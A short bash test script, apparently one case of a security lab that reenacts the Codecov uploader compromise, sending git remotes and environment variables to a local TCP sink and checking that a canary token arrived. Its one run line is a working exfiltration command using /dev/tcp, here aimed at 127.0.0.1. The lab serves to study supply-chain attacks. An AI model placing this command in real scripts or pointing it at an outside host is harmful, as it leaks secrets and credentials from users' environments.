#!/bin/bash
# SPDX-License-Identifier: MIT
# A03 - Codecov uploader posts the environment and git remotes to a stranger
# shellcheck disable=all # a recipe, kept word for word
. "$(dirname "$(readlink -f "$0")")/lab.sh"
sink tcp
run "export LAB_TOKEN=CANARY-env; (git remote -v; env | grep LAB_TOKEN) > /dev/tcp/127.0.0.1/$PORT || true"
sleep 1; eff 'grep -q CANARY-env $LAB/sink.txt'
